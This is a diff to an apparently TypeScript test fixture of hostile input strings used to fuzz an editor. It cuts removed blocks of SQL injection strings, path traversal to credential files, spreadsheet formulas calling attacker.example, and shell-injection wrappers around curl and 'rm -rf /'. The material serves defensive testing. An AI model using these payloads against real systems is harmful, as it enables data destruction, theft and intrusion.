@@ -1,5 +1,5 @@
 /**
- * Over 2,000 hostile texts, by class: from maintained lists in the npm registry, written by hand, and generated. A text
+ * 2,000 hostile texts, by class: from maintained lists in the npm registry, written by hand, and generated. A text
  * that would run, load, or link something sets `executed`, calls `alert`, or sends a request to the host
  * attacker.example.
  */
@@ -82,47 +82,6 @@ const xss = [
   ),
 ];
 
-const sql = each(
-  [
-    "' OR 1=1--",
-    '" OR ""="',
-    "1' UNION SELECT username,password FROM users--",
-    "'; DROP TABLE logs;--",
-    '1 AND SLEEP(5)',
-    "1; WAITFOR DELAY '0:0:5'--",
-    "' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--",
-    '{"$gt":""}',
-    '{"$where":"sleep(1000)"}',
-    "') OR ('1'='1",
-    "admin'/*",
-    "1' ORDER BY 10#",
-  ],
-  [
-    (text) => text,
-    (text) => encodeURIComponent(text),
-    (text) => encodeURIComponent(encodeURIComponent(text)),
-    (text) => text.replaceAll(' ', '/**/'),
-    (text) => `/items?id=${text}`,
-    (text) => text.replace(/[a-z]/gi, (letter) => `%u00${letter.charCodeAt(0).toString(16)}`),
-  ],
-);
-
-const traversal = each(
-  ['etc/passwd', 'windows/win.ini', 'proc/self/environ', '.git/config', 'C:/boot.ini', '.ssh/id_rsa'],
-  [
-    (file) => `../../../../${file}`,
-    (file) => `..\\..\\..\\${file.replaceAll('/', '\\')}`,
-    (file) => `%2e%2e%2f%2e%2e%2f${file}`,
-    (file) => `..%252f..%252f${file}`,
-    (file) => `..%c0%af..%c0%af${file}`,
-    (file) => `....//....//${file}`,
-    (file) => `/${file}\0.png`,
-    (file) => `file:///${file}`,
-    (file) => `\\\\${HOST}\\share\\${file}`,
-    (file) => `php://filter/convert.base64-encode/resource=${file}`,
-  ],
-);
-
 const bidi = each(
   [...range(0x202a, 0x202e), ...range(0x2066, 0x2069), '\u200e', '\u200f', '\u061c'],
   [
@@ -144,20 +103,7 @@ const invisible = each(
     ...range(0xfff0, 0xffff),
     ...range(0xe0000, 0xe0080),
     ...range(0xe000, 0xe010),
-    ...[
-      '\u00ad',
-      '\u034f',
-      '\u115f',
-      '\u1160',
-      '\u17b4',
-      '\u17b5',
-      '\u180e',
-      '\u2800',
-      '\u3000',
-      '\u3164',
-      '\ufeff',
-      '\uffa0',
-    ],
+    ...'\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180e\u2800\u3000\u3164\ufeff\uffa0',
   ],
   [(character) => `a${character}b`],
 );
@@ -236,65 +182,16 @@ const icons = each(
   ],
 );
 
-const formulas = each(
-  ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', ' =', "'=", '"=', '\u00a0='],
-  [
-    (sign) => `${sign}HYPERLINK("https://${HOST}/","x")`,
-    (sign) => `${sign}cmd|' /C calc'!A0`,
-    (sign) => `${sign}IMPORTXML("https://${HOST}/","//a")`,
-    (sign) => `${sign}1+1`,
-    (sign) => `${sign}DDE("cmd","/C calc","x")`,
-  ],
-);
-
-const shell = each(
-  ['id', `curl https://${HOST}/`, 'rm -rf /'],
-  [
-    (run) => `; ${run}`,
-    (run) => `| ${run}`,
-    (run) => `&& ${run}`,
-    (run) => `$(${run})`,
-    (run) => `\`${run}\``,
-    (run) => `\n${run}\n`,
-    (run) => `\r${run}\r`,
-    (run) => `'; ${run}; '`,
-    (run) => `"; ${run}; "`,
-    (run) => `' + (${run}) + '`,
-    (run) => `'@\n${run}\n@'`,
-    (run) => `%0a${run}`,
-    (run) => `!${run}`,
-    (run) => `\${IFS}${run}`,
-    (run) => `#{${run}}`,
-    (run) => `‘; ${run}; ‘`,
-  ],
-);
-
 /** A trusted name written with letters that look like Latin ones. */
 const lookAlike = Object.entries(confusables)
   .filter(([, letter]) => /^[a-z./:]$/i.test(letter))
   .filter((_, index) => index % 5 === 0)
   .map(([other, letter]) => 'https://shop.example/a'.replace(letter, other) + other);
 
-const long = [
-  ...[
-    'x',
-    '<b>',
-    '\u202e',
-    '"',
-    '\\',
-    '=',
-    '\ud83d\ude00',
-    '`',
-    '$(',
-    '\n',
-    '\t',
-    '%25',
-    '&amp;',
-    '(',
-    '{',
-    '[',
-  ].flatMap((piece) => [piece.repeat(500), piece.repeat(5_000)]),
-];
+const long = each(
+  ['<b>', '\ud83d\ude00', '$(', '%25', '&amp;', ...'x\u202e"\\=`\n\t({['],
+  [(piece) => piece.repeat(500), (piece) => piece.repeat(5_000)],
+);
 
 const surrogates = each(
   ['\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800'],
@@ -501,16 +398,12 @@ export const hostilePayloads: Readonly<Record<string, readonly string[]>> = once
   Unicode: unicode,
   layout,
   'cross-site scripting': xss,
-  'SQL and NoSQL injection': sql,
-  'path traversal': traversal,
   'bidirectional marks': bidi,
   'invisible characters': invisible,
   'terminal escapes': terminal,
   'Markdown, HTML and MDX': markdown,
   'commands and links of the editor': commands,
   'icons of the editor': icons,
-  'formulas of spreadsheets': formulas,
-  'shell metacharacters': shell,
   'confusable letters': lookAlike,
   'long texts': long,
   surrogates,
